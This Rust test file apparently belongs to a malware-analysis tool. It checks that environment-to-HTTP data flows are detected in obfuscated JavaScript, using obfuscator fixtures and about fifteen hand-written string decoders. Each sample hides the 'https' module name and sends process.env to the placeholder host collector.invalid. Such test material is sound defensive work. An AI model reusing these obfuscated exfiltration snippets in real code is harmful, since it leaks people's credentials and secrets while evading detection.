//! Code whose strings are computed: what a public obfuscator makes of one small program, and the
//! decoders that people write by hand.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::{installed, run};

/// Outputs of javascript-obfuscator for a program that posts the environment to
/// `collector.invalid`, by the options that were on.
const OBFUSCATED: &[(&str, &str)] = &[
    (
        "default",
        include_str!("fixtures/obfuscator-default.js.txt"),
    ),
    ("base64", include_str!("fixtures/obfuscator-base64.js.txt")),
    ("rc4", include_str!("fixtures/obfuscator-rc4.js.txt")),
    ("wrap", include_str!("fixtures/obfuscator-wrap.js.txt")),
    ("flat", include_str!("fixtures/obfuscator-flat.js.txt")),
    ("split", include_str!("fixtures/obfuscator-split.js.txt")),
    ("high", include_str!("fixtures/obfuscator-high.js.txt")),
];

#[test]
fn string_arrays_of_an_obfuscator_are_read() {
    let mut bad = Vec::new();
    for (name, code) in OBFUSCATED {
        for facts in [
            installed(&[("index.js", code)]),
            run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]),
        ] {
            let found = facts.flows.iter().any(|flow| {
                flow.source == SourceKind::Environment
                    && flow.sink == SinkKind::Http
                    && flow.sink_detail.contains("collector.invalid")
            });
            if !found {
                bad.push(name);
            }
        }
    }
    assert!(bad.is_empty(), "{bad:?}");
}

/// Hand-written decoders: each gives `https`, `request` or `env` or the like by computing.
const DECODERS: &[(&str, &str)] = &[
    (
        "XOR with a key",
        r"
        function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o; }
        const h = require(d('\x03\x1b\x1f\x1b\x1c', 'kok'));
        h.get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "character codes shifted by a map",
        r"
        const n = [105, 117, 117, 113, 116].map(c => String.fromCharCode(c - 1)).join('');
        require(n).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "a loop at the top",
        r"
        var a = [104, 116, 116, 112, 115], o = ''; for (var i = 0; i < a.length; i++) { o += String.fromCharCode(a[i]); }
        require(o).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "a loop in a function",
        r"
        function run() { let name = ''; for (const c of 'iuuqt') name += String.fromCharCode(c.charCodeAt(0) - 1); return require(name); }
        run().get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "hexadecimal by pairs",
        r"
        const n = '6874747073'.match(/.{1,2}/g).map(h => String.fromCharCode(parseInt(h, 16))).join('');
        require(n).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "spread codes",
        r"
        require(String.fromCharCode(...[104, 116, 116, 112, 115])).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "applied codes",
        r"
        require(String.fromCharCode.apply(null, [104, 116, 116, 112, 115])).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "junk removed by replace",
        r"
        require('h#t#t#p#s'.replace(/#/g, '')).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "reversed",
        r"
        require('sptth'.split('').reverse().join('')).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "a table of letters",
        r"
        const t = 'abcdefghijklmnopqrstuvwxyz'; const w = i => i.map(n => t[n]).join('');
        require(w([7, 19, 19, 15, 18])).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "ROT13",
        r"
        const r = s => s.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97));
        require(r('uggcf')).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "bytes XORed in a buffer",
        r"
        const b = Buffer.from('aHR0cHM=', 'base64').map(x => x ^ 1).map(x => x ^ 1).toString();
        require(b).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "raw templates",
        r"
        require(String.raw`https`).get('https://collector.invalid/?' + JSON.stringify(process.env));",
    ),
    (
        "a rotated array by hand",
        r"
        const words = ['env', 'https', 'get']; (function (list, n) { while (--n) list.push(list.shift()); })(words, 3);
        const w = i => words[i - 10];
        require(w(12))[w(10)]('https://collector.invalid/?' + JSON.stringify(process[w(11)]));",
    ),
    (
        "a decoder inside a wrapper",
        r"
        !function () { const k = 7; function d(a) { return a.map(x => String.fromCharCode(x ^ k)).join(''); }
          const h = require(d([111, 115, 115, 119, 116])); h.get('https://collector.invalid/?' + JSON.stringify(process.env)); }();",
    ),
];

#[test]
fn decoders_written_by_hand_are_run() {
    let mut bad = Vec::new();
    for (name, code) in DECODERS {
        for facts in [
            installed(&[("index.js", code)]),
            run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]),
        ] {
            let found = facts.flows.iter().any(|flow| flow.sink == SinkKind::Http);
            if !found {
                bad.push(name);
            }
        }
    }
    assert!(bad.is_empty(), "{bad:?}");
}
